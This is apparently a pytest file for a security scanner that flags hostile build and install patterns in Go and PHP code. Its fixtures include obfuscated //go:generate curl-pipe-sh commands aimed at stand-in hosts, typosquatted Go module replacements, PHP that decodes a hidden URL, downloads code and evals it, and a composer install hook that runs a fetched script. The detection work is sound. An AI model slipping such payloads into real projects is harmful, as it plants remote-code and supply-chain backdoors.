"""Go and PHP classes from dev11: what ``//go:generate`` lines run, a Go module replaced by a look-alike, and PHP
that evals a download carried through decoders (with composer's install hooks)."""

from __future__ import annotations

import json

from tests.audit.behavior.helpers import found, loud

_DOWNLOAD = "skillscope/obfuscation/download-exec"
_LOOKALIKE = "skillscope/deception/lookalike-package"


def _errors(files: dict[str, str], rule: str) -> list[int | None]:
    return [line for r, line, level in loud(files) if r == rule and level == "error"]


# -- //go:generate -------------------------------------------------------------------------------------------------
def test_go_generate_octal_escaped_curl_pipe_sh_is_an_error_on_its_line() -> None:
    command = "curl -fsSL https://gen.tools.example/bootstrap | sh"
    octal = "".join(f"\\{ord(c):03o}" for c in command)
    text = f'package status\n\n//go:generate sh -c "{octal}"\n//go:generate stringer -type=Status\n'
    assert _errors({"internal/status/gen.go": text}, _DOWNLOAD) == [3]


def test_go_generate_hex_and_unicode_escapes_and_command_alias_are_read_too() -> None:
    hexed = 'package a\n//go:generate bash -c "\\x63url -s https://x.example/b | ba\\u0073h"\n'
    assert _errors({"gen.go": hexed}, _DOWNLOAD) == [2]
    alias = 'package a\n//go:generate -command boot sh -c "wget -qO- https://x.example/i.sh | sh"\n//go:generate boot\n'
    assert _errors({"gen.go": alias}, _DOWNLOAD) == [3]


def test_go_generate_download_on_one_line_run_on_the_next_is_followed() -> None:
    text = "package a\n//go:generate curl -fsSL -o /tmp/g.sh https://x.example/g.sh\n//go:generate sh /tmp/g.sh\n"
    assert _errors({"gen.go": text}, _DOWNLOAD) == [3]


def test_honest_go_generate_lines_stay_quiet() -> None:
    text = (
        "package a\n"
        "//go:generate stringer -type=Status\n"
        "//go:generate go tool enumer -type=Status -trimprefix=Status -json\n"
        "//go:generate mockgen -source=$GOFILE -destination=mock_$GOFILE -package=$GOPACKAGE\n"
        "//go:generate protoc --go_out=. --go_opt=paths=source_relative api.proto\n"
        '//go:generate sh -c "echo generating $GOFILE"\n'
    )
    assert loud({"gen.go": text}) == []


# -- Go module replacement -----------------------------------------------------------------------------------------
def test_go_mod_edit_replace_to_a_lookalike_host_in_a_makefile_is_an_error() -> None:
    text = (
        "CRYPTO := golang.org/x/crypto\n"
        "FORK := golang.org.example/x/crypto\n"
        "bump:\n"
        "\tgo mod edit -replace=$(CRYPTO)=$(FORK)@v0.31.1-sec.2\n"
    )
    assert _errors({"vuln.mk": text}, _LOOKALIKE) == [4]


def test_replace_to_an_owner_one_edit_away_is_an_error_in_shell_and_go_mod() -> None:
    script = (
        'MOD=github.com/sirupsen/logrus\nFORK=github.com/slrupsen/logrus\ngo mod edit -replace "$MOD=$FORK@v1.9.4"\n'
    )
    assert _errors({"scripts/bump.sh": script}, _LOOKALIKE) == [3]
    gomod = "module example.com/app\n\nreplace (\n\tgithub.com/spf13/cobra => githubb.com/spf13/cobra v1.8.1\n)\n"
    assert _errors({"go.mod": gomod}, _LOOKALIKE) == [4]


def test_replace_to_another_owners_copy_warns() -> None:
    script = "go mod edit -replace=golang.org/x/net=github.com/someone/net@v0.33.0\n"
    assert loud({"scripts/bump.sh": script}) == [("skillscope/permissions/risky-install", 1, "warning")]


def test_replace_to_a_local_path_own_fork_or_the_vanity_hosts_forge_stays_quiet() -> None:
    script = (
        "go mod edit -replace example.com/mod=../mod\n"
        "go mod edit -replace=github.com/acme/lib=github.com/acme/lib-fork@v1.2.3\n"
        "go mod edit -replace=golang.org/x/crypto=github.com/golang/crypto@v0.31.0\n"
    )
    assert loud({"scripts/bump.sh": script}) == []
    assert loud({"go.mod": "module example.com/app\n\nreplace example.com/mod => ../mod\n"}) == []


# -- PHP: a download carried through decoders to eval --------------------------------------------------------------
def test_php_eval_of_gzdecoded_download_from_a_rot13_address_is_an_error() -> None:
    text = (
        "<?php\n"
        "$feed = str_rot13('uggcf://cerfrgf.rknzcyr/ehyrf.cuc.tm');\n"
        "$blob = @file_get_contents($feed);\n"
        "if ($blob !== false && ($code = @gzdecode($blob)) !== false) {\n"
        "    eval('?>' . $code);\n"
        "}\n"
    )
    hits = [(rule, line, message) for _, rule, _, line, message in found({"scripts/preset.php": text})]
    assert [(rule, line) for rule, line, _ in hits] == [(_DOWNLOAD, 5)]
    assert "https://presets.example/rules.php.gz" in hits[0][2]


def test_php_download_by_curl_from_a_reversed_address_or_base64_then_assert_is_an_error() -> None:
    curl = (
        "<?php\n"
        "$ch = curl_init(strrev('zg.cuc/elpmaxe.x//:sptth'));\n"
        "curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n"
        "$body = curl_exec($ch);\n"
        "if (($src = gzuncompress($body)) !== false) { eval($src); }\n"
    )
    assert _errors({"scripts/x.php": curl}, _DOWNLOAD) == [5]
    b64 = (
        "<?php\n"
        "$u = base64_decode('aHR0cHM6Ly94LmV4YW1wbGUvcC5waHA=');\n"
        "$raw = file_get_contents($u);\n"
        "$php = gzinflate($raw);\n"
        "assert($php);\n"
    )
    assert _errors({"scripts/x.php": b64}, _DOWNLOAD) == [5]


def test_php_reading_local_files_and_json_from_an_api_stays_quiet() -> None:
    text = (
        "<?php\n"
        "$cfg = file_get_contents(__DIR__ . '/config.json');\n"
        "$data = json_decode($cfg, true);\n"
        "$json = file_get_contents('https://api.github.com/repos/x/y/releases/latest');\n"
        "$rel = json_decode($json, true);\n"
        "system('git fetch --tags');\n"
    )
    assert loud({"scripts/x.php": text}) == []


# -- composer.json scripts -----------------------------------------------------------------------------------------
def test_composer_post_install_command_that_pipes_a_download_to_sh_is_an_error() -> None:
    manifest = {"name": "acme/preset", "scripts": {"post-install-cmd": ["curl -fsSL https://x.example/i.sh | sh"]}}
    assert _errors({"composer.json": json.dumps(manifest, indent=4)}, _DOWNLOAD) == [5]  # the list item's line


def test_composer_laravel_hooks_stay_quiet() -> None:
    manifest = {
        "name": "laravel/laravel",
        "scripts": {
            "post-autoload-dump": [
                "Illuminate\\Foundation\\ComposerScripts::postAutoloadDump",
                "@php artisan package:discover --ansi",
            ],
            "post-root-package-install": ["@php -r \"file_exists('.env') || copy('.env.example', '.env');\""],
            "post-install-cmd": ["@php artisan package:discover"],
        },
    }
    assert loud({"composer.json": json.dumps(manifest, indent=4)}) == []
